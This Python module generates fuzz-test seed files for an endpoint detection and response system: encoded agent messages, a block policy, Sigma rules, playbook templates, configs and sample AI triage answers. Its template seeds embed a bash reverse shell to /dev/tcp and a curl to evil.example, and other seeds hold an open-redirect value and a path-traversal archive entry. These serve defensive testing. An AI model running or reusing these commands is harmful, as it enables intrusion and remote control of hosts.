"""Write the seed corpus of each fuzz target from the real code: frames the
codecs encode, the shipped policy, rules and playbooks, the templates the
playbooks use.  ``.venv/bin/python -m tests.fuzz.seeds`` rewrites
``tests/fuzz/corpus/``; the files are committed, so a seed stays the same
bytes when the code it came from changes."""

from __future__ import annotations

import io
import shutil
import tarfile
import zipfile

import msgspec
from pathlib import Path

import fleet
import node
import wire
from hive.playbook import DEFAULT_PLAYBOOKS
from hive.sigma import BUILTIN_RULES
from kmod import DEFAULT_POLICY
from tests.fuzz import targets as t
from tests.fuzz.targets import CORPUS


POLICY_EVERY_HOOK = b'''version = 1
[guard]
unhashed = "allow"
hash_max_mb = 32

[[rule]]
name = "no-tmp-exec"
hook = "exec"
action = "block"
match = { path = ["/tmp/**", "/dev/shm/*.sh"] }

[[rule]]
name = "bad-binary"
hook = "exec"
action = "block"
match = { sha256 = ["''' + b"ab" * 32 + b'''"] }

[[rule]]
name = "shadow"
hook = "open"
action = "audit"
match = { path = ["/etc/shadow", "/etc/ssh/*_key", "/root/.ssh/**"] }

[[rule]]
name = "c2"
hook = "connect"
action = "block"
match = { address = ["10.0.0.0/8", "2001:db8::/32"], port = [4444, "6660-6669"], protocol = "tcp" }

[[rule]]
name = "listen"
hook = "bind"
action = "audit"
match = { port = 31337 }

[[rule]]
name = "root"
hook = "setid"
action = "audit"
match = { call = ["setuid", "setresuid"], id = [0] }

[[rule]]
name = "forks"
hook = "fork"
action = "audit"

[[rule]]
name = "tamper"
hook = "file"
action = "audit"
match = { path = ["/var/log/**", "/home/*/.bash_history", "/etc/passwd"], op = ["rename", "unlink", "symlink"] }
'''

CORRELATION_RULE = b'''title: Many shadow reads
id: 5f0c7a52-1111-4c5e-9f43-2b8a0d1e0c01
name: shadow_reads
status: test
logsource: {product: linux, category: file_access}
detection:
  selection:
    TargetFilename|endswith: /shadow
    Image|re: '^/usr/bin/(cat|less|python[0-9.]*)$'
  condition: selection
level: medium
---
title: Shadow read burst
id: 5f0c7a52-2222-4c5e-9f43-2b8a0d1e0c02
correlation:
  type: event_count
  rules: [shadow_reads]
  group-by: [Agent, User]
  timespan: 5m
  condition: {gte: 3}
level: high
'''

TEMPLATES = [
    b"{{ event.pid }}\x00bash",
    b"{{ alert.agent }}",
    b"kill {{ event.pid | int }} on {{ alert.agent | lower }}\x00x",
    b"{{ event.cmdline | regex('([0-9]{1,3}(?:[.][0-9]{1,3}){3})') | default('') }}"
    b"\x00bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
    b"{{ alert.events.0.argv.1 | regex('https?://([^/]+)', 1) }}\x00curl http://evil.example/x",
    b"{{ vars.webhook | default('none') | str }}/{{ playbook.id }}",
    b"{{ event.missing | default(0) }}",
]


LINUX_RULE = b"""title: Fuzz Seed Tool
id: 5f9b7e2a-8c1d-4e3f-9a6b-0c2d4e6f8a1b
logsource: {product: linux, category: process_creation}
detection:
    selection: {Image|endswith: /seed-tool}
    condition: selection
level: high
"""


def _archive(kind: str, files: dict[str, bytes]) -> bytes:
    """A zip or tar.gz release of ``files`` (name -> content)."""
    out = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in files.items():
                z.writestr(name, data)
    else:
        with tarfile.open(fileobj=out, mode="w:gz") as tar:
            for name, data in files.items():
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


RELEASE = {"sigma/LICENSE": b"Detection Rule License (DRL) 1.1\n", "sigma/rules/linux/seed.yml": LINUX_RULE,
           "sigma/rules/windows/w.yml": LINUX_RULE.replace(b"linux", b"windows")}


def _completion(content: str, model: str = "llama-3.1-8b-instruct") -> bytes:
    return msgspec.json.encode({"id": "chatcmpl-1", "object": "chat.completion", "model": model, "choices": [
        {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content}}]})


_VERDICT = {"severity": "high", "techniques": ["T1059.004", "T1105"], "playbook": "reverse-shell",
            "explanation": "bash opened a socket to 203.0.113.9:4444 and ran a fetched script", "confidence": 0.87}
AI_ANSWERS = {
    "valid": _completion(msgspec.json.encode(_VERDICT).decode()),
    "fenced": _completion("```json\n" + msgspec.json.encode({**_VERDICT, "playbook": ""}).decode() + "\n```"),
    "schema": _completion(msgspec.json.encode({**_VERDICT, "severity": "severe", "confidence": 2}).decode()),
    "malformed": _completion('{"severity": "low", "techniques": ["T1'),
    "no-choices": b'{"choices": [], "model": "x"}',
}


def write_seeds() -> None:
    seeds: dict[str, dict[str, bytes]] = {
        "agent_message": {
            "batch": t.agent_codec().encode(wire.EventBatch(seq=1, stream="a1b2", events=list(t.events()))),
            "batch-one-open": t.agent_codec().encode(wire.EventBatch(seq=7, events=[wire.Open(path="/etc/shadow")])),
            "hello": t.agent_codec().encode(wire.Hello(agent="web-1", hostname="web-1", addresses=["10.0.0.2"],
                                                     os="Linux", kernel="6.18", pid=321)),
            "heartbeat": t.agent_codec().encode(wire.Heartbeat(time=1, spooled=10, dropped=2)),
            "result": t.agent_codec().encode(wire.CommandResult(command="c-1", ok=True, detail="killed",
                                                              data={"pids": [1, 2], "tree": {"x": 1.5}})),
            "bundle-status": t.agent_codec().encode(wire.BundleStatus(version=4, detail="not newer", running=3)),
        },
        "cluster_pack": cluster_pack_seeds(),
        "correlate_hit": correlate_hit_seeds(),
        "hive_message": {
            "ack": t.hive_codec().encode(wire.Ack(seq=3, stream="a1b2")),
            "kill": t.hive_codec().encode(wire.KillProcess(id="c-1", pid=4242, tree=True)),
            "block-exec": t.hive_codec().encode(wire.BlockExec(id="c-2", path="/tmp/x.sh", ttl=600.0)),
            "block-connect": t.hive_codec().encode(wire.BlockConnect(id="c-3", address="10.0.0.5", port=[4444, 4445], protocol="tcp")),
            "isolate": t.hive_codec().encode(wire.IsolateHost(id="c-4", allow=["10.1.0.0/16"])),
            "unblock": t.hive_codec().encode(wire.Unblock(id="c-5", rule="resp-c-2")),
            "quarantine": t.hive_codec().encode(wire.QuarantineFile(id="c-6", path="/tmp/x.sh")),
            "evidence": t.hive_codec().encode(wire.CollectEvidence(id="c-7", pid=4242, exe=True)),
            "bundle": t.hive_codec().encode(wire.PolicyBundle(version=2, signed=fleet.encode(t._fleet_key().sign(
                fleet.Bundle(name="web", version=2, policy="version = 1\n"))))),
        },
        "enroll": {
            "live-token": t.enroll_codec().encode(wire.Enroll(token=t.TOKEN, agent="web-1")),
            "unknown-token": t.enroll_codec().encode(wire.Enroll(token="0123456789abcdef", agent="db-2")),
        },
        "policy": {"default": DEFAULT_POLICY.read_bytes(), "every-hook": POLICY_EVERY_HOOK},
        "console_query": {
            "alerts": b"level=high&rule=r1&agent=web1&since=10m&text=shell&before=42&limit=50",
            "events": b"kind=exec&verdict=block&pid=12&text=%2Ftmp&after=5&limit=20",
            "since_iso": b"since=2026-01-01T00:00:00&incident=inc-1",
            "wildcards": b"level=&text=100%25_x&limit=500",
        },
        "ai_answer": AI_ANSWERS,
        "console_decision": {"empty": b"", "why": b'{"why": "a false positive: the backup job"}', "none": b"{}"},
        "console_action": {
            "kill": b'{"action": "kill_process", "agent": "' + t.AGENT.encode() + b'", "pid": 4321, "tree": true}\0'
                    b"action=kill_process&agent=" + t.AGENT.encode() + b"&pid=4321&tree=on&alert=al-1",
            "block": b'{"action": "block_connect", "agent": "' + t.AGENT.encode() + b'", "address": "192.0.2.0/24", '
                     b'"ttl": 600, "why": "C2"}\0action=block_connect&agent=' + t.AGENT.encode()
                     + b"&address=10.0.0.0%2F8&ttl=60",
            "isolate": b'{"action": "isolate_host", "agent": "' + t.AGENT.encode() + b'", "ttl": 3600}\0'
                       b"action=isolate_host&agent=nobody&ttl=1e400",
            "evidence": b'{"action": "collect_evidence", "agent": "' + t.AGENT.encode() + b'", "pid": 0}\0'
                        b"action=collect_evidence&agent=" + t.AGENT.encode() + b"&pid=77",
        },
        "console_admin": {
            "add": b"add \nname=bob&role=responder&password=a+fresh+long+password",
            "role": b"role bob\nrole=admin",
            "password": b"password bob\npassword=another%20long%20password",
            "token": b"token bob\n",
            "revoke": b"revoke imt_0123456789ab_" + b"B" * 43 + b"\n",
            "remove": b"remove ../bob\n",
        },
        "sigma": {f"{p.parent.name}-{p.name}": p.read_bytes() for p in sorted(BUILTIN_RULES.rglob("*.yml"))},
        "rules_update": {"release.zip": _archive("zip", RELEASE), "release.tar.gz": _archive("tar", RELEASE),
                         "escape.zip": _archive("zip", {"../seed.yml": LINUX_RULE})},
        "playbook": {p.name: p.read_bytes() for p in sorted(DEFAULT_PLAYBOOKS.glob("*.yml"))},
        "template": {f"t{i}": text for i, text in enumerate(TEMPLATES)},
        "config": {"example": (Path(node.__file__).parent / "immune.example.toml").read_bytes(),
                   "agent": b'[node]\ndata = "/var/lib/immune-agent"\n[agent]\nid = "web-1"\nhive = "tcp://10.0.0.1:7400"\n'
                            b'batch = 512\n[sensor]\nscope = "cgroup:/system.slice"\nfold_ms = 0\n',
                   "hive-nodes": b'[agent]\nhive = ["tcp://10.0.0.1:7400", "tcp://10.0.0.2:7400", "ipc:///run/h"]\n'
                                 b'failover_after = 0.5\n',
                   "hive": b'[hive]\nlisten = "tcp://[::]:7400"\nrules = ["/etc/immune/rules"]\n'
                           b'webhook = "https://soc.example/hook"\nmax_frame = 1048576\nretention_days = 7.5\n'},
        "outputs": {
            "syslog-tls": b'[[outputs]]\nname = "siem"\nkind = "syslog"\ntarget = "tls://siem.example.org:6514"\n'
                          b'what = "both"\nfacility = "authpriv"\ntimeout = 5.0\nretry_max = 120.0\n',
            "syslog-udp": b'[[outputs]]\nname = "u"\nkind = "syslog"\ntarget = "udp://[::1]:514"\n',
            "file": b'[[outputs]]\nname = "archive"\nkind = "file"\ntarget = "/var/log/immune/alerts.json"\n'
                    b'max_mb = 1\nkeep = 10\nbackfill = true\n',
            "webhook": b'[[outputs]]\nname = "soar"\nkind = "webhook"\ntarget = "https://soar.example/hook?x=1"\n'
                       b'token = "abc.DEF-123"\n[[outputs]]\nname = "chat"\nkind = "webhook"\n'
                       b'target = "http://127.0.0.1:8080/"\n',
        },
        "console_request": {
            "login": b"\0\0csrf=" + b"A" * 43 + b"&name=alice&password=correct%20horse%20battery&next=%2Falerts%3Fq%3D1",
            "bearer": b"Bearer imt_0123456789ab_" + b"B" * 43 + b"\0\0",
            "session": b"\0theme=dark; __Host-immune-session=" + b"C" * 43 + b"; other=1\0next=%2F%2Fevil.example",
        },
        "container_state": {
            "docker": f"0::/system.slice/docker-{t.CONTAINER_ID}.scope\n".encode() + b"\0"
                      + b'{"Name": "/web", "Config": {"Image": "nginx:1.27"}}',
            "runc": b"0::/box\n1:name=systemd:/box\n\0"
                    + b'{"config": {"labels": ["bundle=/b", "org.opencontainers.image.ref.name=vllm/vllm:1"]}}',
            "lxc": b"0::/lxc.payload.box\n\0# Template used to create this container: download debian bookworm\n",
            "nspawn": b"0::/machine.slice/systemd-nspawn@box.service/payload\n\0CLASS=container\nROOT=/var/lib/machines/box\n",
            "containerd": f"0::/kubepods/pod1/{t.CONTAINER_ID}\n".encode() + b"\0"
                          + b'{"annotations": {"io.kubernetes.cri.container-name": "api", '
                          + b'"io.kubernetes.cri.image-name": "ghcr.io/x/api:2"}}',
        },
        "mountinfo": {"self": Path("/proc/self/mountinfo").read_bytes(),
                      "overlay": b"72 47 0:51 / / rw,relatime - overlay overlay rw,lowerdir=/l,upperdir=/u,workdir=/w\n"
                                 b"74 72 0:42 / /dev rw,nosuid - tmpfs tmpfs rw,size=65536k,mode=755\n"
                                 b"75 72 0:43 / /with\\040space rw shared:5 - tmpfs tmpfs rw\n"},
        "bundle": {
            "signed": fleet.encode(t._fleet_key().sign(fleet.Bundle(
                name="web", version=3, labels={"role": "web"}, policy=DEFAULT_POLICY.read_text(),
                rules={"r.yml": LINUX_RULE.decode()}))),
            "unsigned": msgspec.msgpack.encode(fleet.Bundle(name="db", version=1, playbooks={"p.yml": "name: x\n"})),
        },
    }
    seeds["herd_bundle"] = herd_seeds()
    seeds["sigma"]["correlation"] = CORRELATION_RULE
    for target, files in seeds.items():
        folder = CORPUS / target
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        for name, data in files.items():
            (folder / name).write_bytes(data)


def cluster_pack_seeds() -> dict[str, bytes]:
    """Packs as routers and writers publish them, a single batch as a node
    without packing does, and a pack with a malformed batch in it."""
    from hive import Ingest
    from hive._actors import internal_codec
    from hive.cluster._pack import encode

    c = internal_codec()
    one = c.encode(Ingest(agent="web-1", stream="a1b2", seq=1, events=list(t.events())))
    two = c.encode(Ingest(agent="db-2", stream="c3d4", seq=9, events=[wire.Open(path="/etc/shadow")]))
    return {"pack": encode(c, [one, two]), "single": one, "pack-one-bad": encode(c, [one, b"\x93junk", two])}


def correlate_hit_seeds() -> dict[str, bytes]:
    """Hits as sentinels route them: for each loaded correlation, one for a
    correlation not loaded here, one whose group does not fit."""
    from hive._actors import internal_codec
    from hive._messages import SigmaHit

    c = internal_codec()
    event = wire.Exec(agent="web-1", pid=100, filename="/usr/bin/tool", user="alice")
    return {
        "grouped": c.encode(SigmaHit(correlation="0c000000-0000-4000-8000-000000000001", group=["alice", "web-1"],
                                     value="0a000000-0000-4000-8000-000000000001", time=1_796_000_000.0,
                                     events=[event], key="web-1/a1b2/7/1/0c")),
        "counted": c.encode(SigmaHit(correlation="0c000000-0000-4000-8000-000000000002", group=["web-1"],
                                     value="/usr/bin/tool", weight=3, time=1_796_000_001.5)),
        "settling": c.encode(SigmaHit(correlation="0c000000-0000-4000-8000-000000000003", time=1_796_000_002.0)),
        "unknown": c.encode(SigmaHit(correlation="not-loaded", group=[None, 1.5, True], time=5.0)),
        "unfit": c.encode(SigmaHit(correlation="0c000000-0000-4000-8000-000000000001", group=["alice"], time=5.0)),
    }


def herd_seeds() -> dict[str, bytes]:
    """A peer's signed bundle and TAXII page (valid for a century: the cap
    applies), a forged and an expired indicator, a MISP feed."""
    import json

    from hive.herd import build
    from hive.herd._stix import Fact

    key, t0 = t._fleet_key(), 1_796_000_000.0
    century = 100 * 365 * 86400.0
    good = [*build(Fact("sha256", "ab" * 32, t0, t0 + 60, confidence=90, what="quarantined", actions=["a-1"],
                        alerts=["al-1"], incidents=["inc-1"]), key, now=t0, share_for=century),
            *build(Fact("ipv4", "198.51.100.0/24", t0, t0), key, now=t0, share_for=century)]
    forged = build(Fact("sha256", "cd" * 32, t0, t0), fleet.SigningKey.from_bytes(bytes(32)), now=t0,
                   share_for=century)[0]
    expired = build(Fact("ipv6", "2001:db8::7", t0, t0), key, now=t0, share_for=60)[0]
    misp = {"response": [{"Event": {"info": "feed", "Attribute": [
        {"type": "sha256", "value": "ef" * 32, "uuid": "5f2a1c34-7c1e-4b9a-9f27-0a4e0b1b2c3d", "timestamp": "1796000000"},
        {"type": "ip-dst", "value": "203.0.113.9"}, {"type": "domain", "value": "evil.example"}]}}]}
    return {"bundle": json.dumps({"type": "bundle", "id": "bundle--6a1b0c2d-3e4f-4a5b-8c6d-7e8f9a0b1c2d",
                                  "objects": good}).encode(),
            "envelope": json.dumps({"more": False, "objects": [good[0], forged, expired]}).encode(),
            "misp": json.dumps(misp).encode()}


if __name__ == "__main__":
    write_seeds()
